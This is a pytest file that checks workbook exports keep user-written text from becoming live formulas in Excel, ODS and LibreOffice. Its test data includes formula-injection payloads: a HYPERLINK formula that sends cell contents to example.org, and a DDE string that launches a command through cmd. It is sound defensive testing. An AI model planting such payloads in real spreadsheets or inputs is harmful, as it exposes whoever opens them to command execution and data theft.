"""Text that people wrote never becomes a formula: read by other libraries, and opened and calculated by LibreOffice."""

from io import BytesIO

import openpyxl
import pytest
from odf.namespaces import OFFICENS, TABLENS
from odf.opendocument import load
from odf.table import Table, TableCell

from goldenthread.documents.reading.workbooks import read_sheets
from goldenthread.monitoring.models import Update
from tests.factories.monitoring import situation
from tests.monitoring.workbooks.filling import Book, bring_back, taken_away, texts_of

pytestmark = pytest.mark.django_db
DANGEROUS = {
    "comment": '=HYPERLINK("http://example.org?"&A1,"x")',
    "next_step": "+1+1",
    "obstacle": "-2+3",
    "help_wanted": "@SUM(1;2)",
    "move_reason": "=cmd|' /C calc'!A0",
    "none_reason": "\t=1+1",
    "contradiction_reason": "fine\r=1+1",
}


@pytest.fixture
def here(here):
    here.send(here.round, here.give(proposed_words="=2+2", **DANGEROUS))
    return here


def as_held(text: str) -> str:
    """What a cell keeps: one kind of line end."""
    return text.replace("\r", "\n")


def dangerous_cells(content: bytes, name: str) -> dict[str, str]:
    """What our own reader finds in the first action's cells."""
    sheet = read_sheets(name, content)[0]
    codes = {cell.text: place for place, cell in sheet.cells.items() if cell.text.startswith("gt:")}
    return {code: sheet.cells[codes[f"gt:{code}"][0] + 2, codes[f"gt:{code}"][1]].text for code in DANGEROUS}


def test_excel_holds_them_as_text(here):
    book = Book(taken_away(here.lead, here.round, here.post))
    for code, text in DANGEROUS.items():
        cell = book.cell(0, code)
        assert (cell.data_type, cell.value, cell.number_format) == ("s", as_held(text), "@")
    assert book.cell(0, "comment").quotePrefix
    assert book.cell(0, "proposed_words").value == "=2+2"
    formulas = [cell for sheet in book.book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_open_document_holds_them_as_text(here):
    content = taken_away(here.lead, here.round, here.post, format="ods")
    cells = [
        cell for table in load(BytesIO(content)).getElementsByType(Table) for cell in table.getElementsByType(TableCell)
    ]
    assert [cell for cell in cells if cell.getAttrNS(TABLENS, "formula")] == []
    kinds = {str(cell): cell.getAttrNS(OFFICENS, "value-type") for cell in cells}
    for text in ("+1+1", "-2+3", "@SUM(1;2)", DANGEROUS["comment"]):
        assert kinds[text] == "string"


@pytest.mark.parametrize("format", ["xlsx", "ods"])
def test_libreoffice_calculates_nothing(here, libreoffice, format):
    content = taken_away(here.lead, here.round, here.post, format=format)
    saved = openpyxl.load_workbook(BytesIO(libreoffice(content, format, to="xlsx")))
    assert [cell for sheet in saved for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    found = dangerous_cells(libreoffice(content, format, to="xlsx"), "saved.xlsx")
    assert {code: text.strip() for code, text in found.items()} == {
        code: as_held(text).strip() for code, text in DANGEROUS.items()
    }


def test_they_come_back_unchanged(here):
    assert bring_back(here, taken_away(here.lead, here.round, here.post)).outcomes == ["Unchanged"] * 3


def test_an_actions_own_words(here):
    other = situation(1, text="=1+1")
    other.round = other.open()
    book = Book(taken_away(other.lead, other.round, other.post))
    assert (book.cell(0, "action").data_type, book.cell(0, "action").value) == ("s", "=1+1")


def test_a_formula_like_text_in_a_file_is_stored_as_written(here):
    book = Book(taken_away(here.lead, here.round, here.post)).fill(1, comment="=2+2", rating="Started")
    bring_back(here, book).confirm()
    assert texts_of(here, 1) == {"comment": "=2+2"}
    assert Update.objects.count() == 2
